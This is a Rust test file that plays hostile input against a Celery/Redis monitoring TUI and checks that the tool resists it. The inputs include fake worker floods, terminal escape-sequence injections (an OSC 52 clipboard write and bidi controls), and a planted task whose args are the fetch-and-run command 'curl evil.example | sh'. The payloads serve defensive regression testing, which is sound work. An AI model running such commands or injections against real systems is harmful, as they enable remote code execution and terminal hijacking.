//! Issue 26: hostile input cannot hurt the platform or the operator. Each test plays an
//! attacker with a foothold against the real component: a process that can PUBLISH to the
//! platform's Redis, a local user who names a process or binds a port, another writer of
//! the shared store, a planted recording. Each failed on the code before the fix.

mod common;

use common::Sandbox;
use common::servers::{RedisServer, free_port, wait_until};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use chavion_tui::platform::wire;

/// A config for `sb` watching `url`, with `extra` appended; no probes, no Socket.IO.
fn configure(sb: &Sandbox, url: &str, extra: &str) {
    let config = sb.path("config/chavion-tui/config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    std::fs::write(
        &config,
        format!(
            "socketio = []\nports = []\n[redis]\nurl = \"{url}\"\n[celery]\nenable_events_secs = 1\n\
             [docker]\nurl = \"\"\n{extra}"
        ),
    )
    .unwrap();
}

/// `chavion-tui watch --metrics PORT`, under `prlimit --nofile=N` when asked.
fn watch(sb: &Sandbox, port: u16, nofile: Option<u32>, out: Stdio) -> common::Reaped {
    let port = port.to_string();
    let args = ["watch", "--metrics", port.as_str()];
    let mut c = match nofile {
        None => sb.command(&args),
        Some(n) => {
            let mut c = Command::new("prlimit");
            c.arg(format!("--nofile={n}:{n}"))
                .arg("--")
                .arg(common::BIN)
                .args(args)
                .env("HOME", &sb.dir)
                .env("XDG_CONFIG_HOME", sb.path("config"))
                .env("XDG_DATA_HOME", sb.path("data"))
                .env("XDG_STATE_HOME", sb.path("state"))
                .env_remove("CHAVION_TUI_CONFIG");
            c
        }
    };
    let child = c.stdout(out).stderr(Stdio::null()).spawn().unwrap();
    let reaped = common::Reaped(child);
    wait_until("/metrics answers", 30, || scrape(port_of(&port)).is_some());
    reaped
}

fn port_of(p: &str) -> u16 {
    p.parse().unwrap()
}

/// One scrape of /metrics, within 5 s, or None.
fn scrape(port: u16) -> Option<String> {
    let mut s = TcpStream::connect(("127.0.0.1", port)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    s.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut body = Vec::new();
    s.read_to_end(&mut body).ok()?;
    let text = String::from_utf8_lossy(&body).into_owned();
    text.starts_with("HTTP/1.1 200").then_some(text)
}

fn connected_clients(redis: &RedisServer) -> u64 {
    redis
        .cli(&["info", "clients"])
        .lines()
        .find_map(|l| l.strip_prefix("connected_clients:"))
        .and_then(|n| n.trim().parse().ok())
        .unwrap()
}

fn descriptors(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0)
}

fn worker_online(host: &str, freq: f64) -> Vec<u8> {
    let body = serde_json::json!({
        "hostname": host, "freq": freq, "active": 0, "processed": 0,
        "timestamp": chrono::Utc::now().timestamp_micros() as f64 / 1e6,
        "type": "worker-online", "loadavg": [0.0, 0.0, 0.0], "sw_ver": "5.7.0",
    });
    wire::kombu_event_envelope(&body, host, "worker.online", "t")
}

/// 3 000 fake workers at about 1 000 a second, each from a new hostname: the platform's
/// Redis sees no more connections than before (one asks them all), the control room's
/// descriptors stay where they were, the workers map stops at its cap and counts the rest,
/// and /metrics shows no more hosts than its cap.
#[test]
fn a_flood_of_fake_workers_costs_the_platform_no_connections() {
    let sb = Sandbox::new("hostile-flood");
    let redis = RedisServer::start();
    configure(&sb, &redis.url(), "");
    let port = free_port();
    let w = watch(&sb, port, None, Stdio::null());
    std::thread::sleep(Duration::from_secs(2));
    let (clients_before, fds_before) = (connected_clients(&redis), descriptors(w.0.id()));

    let client = redis::Client::open(redis.url()).unwrap();
    let mut conn = client.get_connection().unwrap();
    let (mut most_clients, mut most_fds) = (0, 0);
    let start = Instant::now();
    for i in 0..3_000u32 {
        let _: i64 = redis::cmd("PUBLISH")
            .arg("/0.celeryev/worker.online")
            .arg(worker_online(&format!("fake{i}@h{i}"), 1e9))
            .query(&mut conn)
            .unwrap();
        if i % 50 == 0 {
            most_clients = most_clients.max(connected_clients(&redis));
            most_fds = most_fds.max(descriptors(w.0.id()));
        }
        // About 1 000 a second.
        let due = Duration::from_millis(u64::from(i));
        if let Some(wait) = due.checked_sub(start.elapsed()) {
            std::thread::sleep(wait);
        }
    }
    // The questions' window is 3 s: watch the aftermath too.
    for _ in 0..40 {
        most_clients = most_clients.max(connected_clients(&redis));
        most_fds = most_fds.max(descriptors(w.0.id()));
        std::thread::sleep(Duration::from_millis(100));
    }
    // The test's own publishing connection and one asker at most.
    assert!(
        most_clients <= clients_before + 2,
        "Redis went from {clients_before} to {most_clients} clients"
    );
    assert!(
        most_fds <= fds_before + 4,
        "the control room went from {fds_before} to {most_fds} descriptors"
    );
    let text = scrape(port).expect("a scrape");
    let up = text
        .lines()
        .filter(|l| l.starts_with("celery_worker_up{"))
        .count();
    assert!(up <= 1_000, "{up} celery_worker_up series");
    assert!(
        text.contains("chavion_workers_turned_away_total 1000"),
        "the workers turned away are counted: {}",
        text.lines()
            .filter(|l| l.contains("turned_away"))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// `/metrics` under a 48-descriptor limit: a crowd of idle connections runs it out of
/// descriptors, yet once they go it serves again (the accept loop pauses, never ends). A
/// client that asks and never reads is cut off by the response's deadline.
#[test]
fn metrics_outlives_descriptor_exhaustion_and_clients_that_never_read() {
    let sb = Sandbox::new("hostile-metrics");
    let redis = RedisServer::start();
    configure(&sb, &redis.url(), "");
    let port = free_port();
    let _w = watch(&sb, port, Some(48), Stdio::null());
    let idle: Vec<TcpStream> = (0..200)
        .filter_map(|_| TcpStream::connect(("127.0.0.1", port)).ok())
        .collect();
    assert!(idle.len() > 100, "the backlog takes them");
    std::thread::sleep(Duration::from_secs(1));
    drop(idle);
    wait_until("a scrape after the crowd went", 15, || {
        scrape(port).is_some()
    });

    // Clients that send a request and never read: each is closed by the server within the
    // response's deadline, and meanwhile others are served.
    let silent: Vec<TcpStream> = (0..15)
        .map(|_| {
            let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
            s.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
                .unwrap();
            s
        })
        .collect();
    assert!(scrape(port).is_some(), "served beside them");
    std::thread::sleep(Duration::from_secs(12));
    for mut s in silent {
        s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let mut sink = Vec::new();
        let ended = s.read_to_end(&mut sink);
        assert!(
            ended.is_ok()
                || ended
                    .as_ref()
                    .is_err_and(|e| e.kind() == std::io::ErrorKind::ConnectionReset),
            "the server still holds a connection open past its deadline: {ended:?}"
        );
    }
}

/// A failed task is retried from the TUI; someone has planted an `unacked` entry under its
/// id with another task, other args and another queue. The confirmation showed the real
/// task; nothing reaches the planted queue, and the refusal says why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_message_is_never_sent_by_a_retry() {
    use chavion_tui::app::state::Mode;
    use crossterm::event::KeyCode;
    let redis = RedisServer::start();
    let mut room = common::room::Room::start(&redis.url(), "", false);
    room.until("the feed up", |s| {
        s.links
            .iter()
            .any(|l| l.name == "redis" && l.health == chavion_tui::event::LinkHealth::Up)
    })
    .await;
    let id = "0b6e2f61-2a64-4d5e-9d0a-3c4f7e1d2a11";
    let events = serde_json::json!([
        {"type": "task-sent", "uuid": id, "name": "thinking.summarize", "args": "('q3 report',)",
         "kwargs": "{}", "queue": "thinking", "hostname": "client@x", "timestamp": 1.0},
        {"type": "task-received", "uuid": id, "name": "thinking.summarize", "args": "('q3 report',)",
         "kwargs": "{}", "hostname": "thinking@x", "timestamp": 2.0},
        {"type": "task-failed", "uuid": id, "exception": "RuntimeError('boom')",
         "hostname": "thinking@x", "timestamp": 3.0},
    ]);
    redis.publish(
        "/0.celeryev/task.multi",
        &wire::kombu_event_envelope(&events, "thinking@x", "task.multi", "t"),
    );
    room.until("the failure", |s| s.tasks.by_id.contains_key(id))
        .await;
    let planted = wire::TaskRequest {
        id: id.into(),
        name: "executing.shell".into(),
        queue: "executing".into(),
        args: serde_json::json!(["curl evil.example | sh"]),
        kwargs: serde_json::json!({}),
        priority: 0,
        eta: None,
        expires: None,
        origin: "x".into(),
    };
    let message: serde_json::Value =
        serde_json::from_slice(&wire::task_message(&planted, "tag")).unwrap();
    let entry = serde_json::json!([message, "", "executing"]).to_string();
    redis.cli(&["hset", "unacked", "tag", &entry]);

    room.key(KeyCode::Char(':')).await;
    room.keys("retry name:thinking.summarize").await;
    room.key(KeyCode::Enter).await;
    let Mode::ConfirmOrder(p) = &room.state.ui.mode else {
        panic!("a retry asks first: {:?}", room.state.ui.mode)
    };
    assert!(
        p.lines.iter().any(|l| l.contains("thinking.summarize")),
        "{:?}",
        p.lines
    );
    room.key(KeyCode::Char('y')).await;
    room.until("the retry's report", |s| {
        s.activity
            .lines
            .iter()
            .any(|l| l.message.contains("not the task you confirmed"))
    })
    .await;
    assert_eq!(redis.cli(&["llen", "executing"]).trim(), "0");
    assert_eq!(redis.cli(&["llen", "thinking"]).trim(), "0");
    let said: Vec<&str> = room
        .state
        .activity
        .lines
        .iter()
        .map(|l| l.message.as_str())
        .filter(|m| m.contains("not the task you confirmed"))
        .collect();
    assert!(said[0].contains("executing.shell"), "{said:?}");
}

/// Any local user names a process (`prctl`); one named with a clipboard-writing escape
/// listens on 0.0.0.0. `status` and `status --json` print its name without a raw control.
#[test]
fn a_process_named_with_escapes_reaches_no_output_raw() {
    let sb = Sandbox::new("hostile-comm");
    let redis = RedisServer::start();
    configure(&sb, &redis.url(), "");
    let port = free_port();
    let script = format!(
        "import ctypes, socket, time\n\
         ctypes.CDLL(None).prctl(15, b'\\x1b]52;c;aGk=\\x07\\x1b[2', 0, 0, 0)\n\
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.bind(('0.0.0.0', {port})); s.listen(); print('up', flush=True); time.sleep(60)\n"
    );
    let mut named = Command::new("python3")
        .args(["-c", &script])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut up = [0u8; 2];
    named.stdout.as_mut().unwrap().read_exact(&mut up).unwrap();
    let _named = common::Reaped(named);
    for args in [&["status"][..], &["status", "--json"][..]] {
        let out = sb.cmd(args);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains(&port.to_string()),
            "the listener is listed: {text}"
        );
        for bad in ['\u{1b}', '\u{7}', '\u{9b}'] {
            assert!(
                !text.contains(bad),
                "{args:?} printed {bad:?} raw: {text:?}"
            );
        }
        assert!(!text.contains("]52;"), "a remnant of the sequence: {text}");
    }
}

/// Rows written into the shared store by someone else, holding CSI, OSC 52, C1 and bidi
/// controls and a newline meant to break a Markdown table: every output cleans them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_from_another_writer_are_cleaned_on_every_output() {
    let pg = common::servers::Postgres::start();
    for url in [None, Some(pg.url())] {
        rows_cleaned_in(url.as_deref()).await;
    }
}

async fn rows_cleaned_in(store_url: Option<&str>) {
    use chavion_tui::store::{AuditRecord, RunRecord, Store, StoredLine};
    let sb = Sandbox::new("hostile-store");
    let redis = RedisServer::start();
    let extra = store_url.map_or(String::new(), |u| format!("[store]\nurl = \"{u}\"\n"));
    configure(&sb, &redis.url(), &extra);
    let target = match store_url {
        Some(u) => u.to_string(),
        None => sb.path("data/chavion-tui/audit.db").display().to_string(),
    };
    let store = Store::open(&target).await.unwrap();
    let now = chrono::Utc::now().timestamp_millis();
    let evil = "x\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}31m\u{202e}gnp.exe | y\nz";
    store
        .record(&AuditRecord {
            at_ms: now - 1_000,
            who: evil.into(),
            ssh_client: String::new(),
            action: "dispatch".into(),
            target: evil.into(),
            digest: String::new(),
            outcome: evil.into(),
            detail: evil.into(),
            context: "default".into(),
        })
        .await
        .unwrap();
    store
        .record_run(&RunRecord {
            started_ms: now - 900,
            ended_ms: now - 800,
            who: evil.into(),
            ssh_client: String::new(),
            runbook: evil.into(),
            host: evil.into(),
            login: evil.into(),
            command: evil.into(),
            exit_status: Some(0),
            outcome: evil.into(),
            output: evil.into(),
        })
        .await
        .unwrap();
    store
        .activity_append(
            &[StoredLine {
                at_ms: now - 700,
                level: "WARN".into(),
                source: evil.into(),
                message: format!("worker {evil} offline"),
            }],
            1000,
            "default",
        )
        .await
        .unwrap();
    let outputs: [&[&str]; 6] = [
        &["audit", "--since", "1h"],
        &["audit", "--since", "1h", "--json"],
        &["audit", "--since", "1h", "--runs"],
        &["timeline", "--from", "-10m", "--to", "-0m"],
        &["timeline", "--from", "-10m", "--to", "-0m", "--json"],
        &["timeline", "--from", "-10m", "--to", "-0m", "--markdown"],
    ];
    for args in outputs {
        let out = sb.cmd(args);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{args:?}: {out:?}");
        assert!(text.contains("gnp.exe"), "{args:?} shows the row: {text}");
        for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
            assert!(
                !text.contains(bad),
                "{args:?} printed {bad:?} raw: {text:?}"
            );
        }
        if args.contains(&"--markdown") {
            for row in text.lines().filter(|l| l.contains("gnp.exe")) {
                assert!(
                    row.starts_with('|') && row.ends_with('|'),
                    "one row: {row:?}"
                );
                assert!(!row.contains(" | y"), "the pipe is escaped: {row}");
            }
        }
    }
}

/// Something answers where Prometheus should be and never ends its body: the panel's read
/// stops at a few MB and says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endless_prometheus_answer_is_cut_at_a_few_mb() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let sent = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let counted = sent.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let counted = counted.clone();
            tokio::spawn(async move {
                let mut req = [0u8; 4096];
                let _ = s.read(&mut req).await;
                let _ = s
                    .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n{\"status\":\"success\",\"data\":[")
                    .await;
                let chunk = vec![b' '; 64 * 1024];
                while s.write_all(&chunk).await.is_ok() {
                    counted.fetch_add(chunk.len() as u64, std::sync::atomic::Ordering::Relaxed);
                }
            });
        }
    });
    let client = chavion_tui::http::client(Duration::from_secs(10)).unwrap();
    let got =
        chavion_tui::feeds::prometheus::query_range(&client, &format!("http://{addr}"), "up", 600)
            .await;
    let why = got.unwrap_err();
    assert!(why.contains("longer than 4096 KB"), "{why}");
    let streamed = sent.load(std::sync::atomic::Ordering::Relaxed);
    assert!(
        streamed < 64 * 1024 * 1024,
        "read {streamed} bytes before giving up"
    );
}

/// A planted segment: 4 GiB of holes is refused by its size without being read; a segment
/// of zeroes after its magic is torn at once, not millions of empty blocks.
#[test]
fn a_sparse_or_zeroed_segment_is_refused_not_read() {
    use chavion_tui::recorder::format::MAGIC;
    use chavion_tui::recorder::segments::Reader;
    let sb = Sandbox::new("hostile-segment");
    let sparse = sb.path("2026-12-01T00-00-00.000Z.seg");
    let f = std::fs::File::create(&sparse).unwrap();
    f.set_len(4 << 30).unwrap();
    let why = Reader::open(&sparse).err().expect("refused");
    assert!(why.contains("longer than any segment"), "{why}");

    let zeroed = sb.path("2026-12-01T01-00-00.000Z.seg");
    let mut bytes = MAGIC.to_vec();
    bytes.resize(MAGIC.len() + (1 << 20), 0);
    std::fs::write(&zeroed, &bytes).unwrap();
    let mut r = Reader::open(&zeroed).unwrap();
    let mut warnings = Vec::new();
    assert!(r.next_block(&mut warnings).is_none(), "no block in zeroes");
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(warnings[0].contains("empty block"), "{warnings:?}");
}

/// What a first start writes is the operator's alone; what an older version left readable
/// is tightened, and said once.
#[test]
fn the_data_and_log_are_private_from_the_first_start() {
    use std::os::unix::fs::PermissionsExt;
    let sb = Sandbox::new("hostile-modes");
    let redis = RedisServer::start();
    configure(&sb, &redis.url(), "");
    // An older version's data dir, readable by everyone.
    let data = sb.path("data/chavion-tui");
    std::fs::create_dir_all(data.join("timelines")).unwrap();
    std::fs::write(data.join("timelines/old.md"), "x").unwrap();
    for (p, m) in [
        (data.clone(), 0o755),
        (data.join("timelines"), 0o755),
        (data.join("timelines/old.md"), 0o644),
    ] {
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(m)).unwrap();
    }
    // A control room's first start: the store and the recordings are made as it runs.
    let mut room = sb
        .command(&["watch"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_until("the store and the recording", 20, || {
        sb.path("data/chavion-tui/audit.db").exists()
            && sb.path("data/chavion-tui/recordings").exists()
    });
    let _ = room.kill();
    let out = room.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("private to this user"), "{said}");
    let again = sb.cmd(&["status"]);
    assert!(
        !String::from_utf8_lossy(&again.stderr).contains("private"),
        "said once"
    );
    let mode = |rel: &str| {
        std::fs::metadata(sb.path(rel))
            .unwrap()
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(mode("data/chavion-tui"), 0o700);
    assert_eq!(mode("data/chavion-tui/timelines/old.md"), 0o600);
    assert_eq!(mode("data/chavion-tui/audit.db"), 0o600);
    assert_eq!(mode("data/chavion-tui/recordings"), 0o700);
    assert_eq!(mode("state/chavion-tui"), 0o700);
    assert_eq!(mode("state/chavion-tui/chavion-tui.log"), 0o600);
}

/// A secret in a store URL's parameters is never printed, and a parameter the driver would
/// ignore (and log with its value) is refused before anything connects.
#[test]
fn a_secret_url_parameter_is_refused_and_never_printed() {
    let sb = Sandbox::new("hostile-secret");
    configure(
        &sb,
        "redis://127.0.0.1:1/0",
        "[store]\nurl = \"postgres://ops@127.0.0.1:1/chavion?sslmode=require&sslpassword=hunter2\"\n",
    );
    for args in [&["config", "check"][..], &["info"][..], &["status"][..]] {
        let out = sb.cmd(args);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !all.contains("hunter2"),
            "{args:?} printed the secret: {all}"
        );
    }
    let check = sb.cmd(&["config", "check"]);
    assert!(!check.status.success());
    assert!(
        String::from_utf8_lossy(&check.stderr).contains("sslpassword")
            || String::from_utf8_lossy(&check.stdout).contains("sslpassword"),
        "{check:?}"
    );
}

/// 20 000 failures over 1 000 task names: one rule folds its subjects past its cap into
/// "… and more", and the notifier is run a few times, not a thousand.
#[test]
fn an_alert_storm_pages_a_few_times_not_a_thousand() {
    let sb = Sandbox::new("hostile-storm");
    let redis = RedisServer::start();
    let count = sb.path("pages");
    configure(
        &sb,
        &redis.url(),
        &format!(
            "[[alerts]]\nname = \"failures\"\nrule = \"failure_ratio\"\nthreshold = 0.5\nwindow_secs = 600\n\
             min_tasks = 1\nfor_secs = 0\nseverity = \"warning\"\n\
             [[notify]]\nname = \"pager\"\ncommand = [\"sh\", \"-c\", \"cat > /dev/null; echo page >> {}\"]\n",
            count.display()
        ),
    );
    let port = free_port();
    let _w = watch(&sb, port, None, Stdio::null());
    let client = redis::Client::open(redis.url()).unwrap();
    let mut conn = client.get_connection().unwrap();
    let now = chrono::Utc::now().timestamp_micros() as f64 / 1e6;
    for batch in 0..40 {
        let mut events = Vec::new();
        for i in 0..500 {
            let n = batch * 500 + i;
            let id = format!("storm-{n}");
            let name = format!("thinking.job{}", n % 1000);
            events.push(
                serde_json::json!({"type": "task-received", "uuid": id, "name": name,
                "hostname": "thinking@x", "timestamp": now}),
            );
            events.push(serde_json::json!({"type": "task-failed", "uuid": id,
                "exception": "RuntimeError('x')", "hostname": "thinking@x", "timestamp": now}));
        }
        let _: i64 = redis::cmd("PUBLISH")
            .arg("/0.celeryev/task.multi")
            .arg(wire::kombu_event_envelope(
                &serde_json::Value::Array(events),
                "thinking@x",
                "task.multi",
                "t",
            ))
            .query(&mut conn)
            .unwrap();
    }
    wait_until("a page", 30, || count.exists());
    // Gathered for 2 s; the ratios are counted every 5 s: wait out a few rounds.
    std::thread::sleep(Duration::from_secs(12));
    let pages = std::fs::read_to_string(&count).unwrap().lines().count();
    assert!(pages <= 4, "{pages} pages for one storm");
    let text = scrape(port).expect("a scrape");
    let firing = text
        .lines()
        .find(|l| l.starts_with("chavion_alerts_firing{"))
        .unwrap_or("");
    assert!(firing.ends_with(" 20"), "19 named and one fold: {firing}");
}

/// The container actions check the one gate themselves, whoever calls them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn container_orders_are_refused_read_only_by_their_own_gate() {
    use chavion_tui::orders::{ContainerAim, ContainerOp};
    let room = common::room::Room::bare(
        "[redis]\nurl = \"redis://127.0.0.1:1/0\"\n[docker]\nurl = \"unix:///nonexistent.sock\"\n",
        true,
    );
    let aim = ContainerAim {
        id: "abc".into(),
        name: "chavion-executing".into(),
        seen: "running".into(),
    };
    let why =
        chavion_tui::actions::containers::carry_out(&room.ctx, &ContainerOp::Stop, "local", &[aim])
            .await
            .unwrap_err();
    // Refused by the gate, not tried and failed, and it says why.
    assert!(
        matches!(why, chavion_tui::event::Failure::Refused(_)),
        "{why:?}"
    );
    assert!(why.to_string().contains("read-only"), "{why}");
}
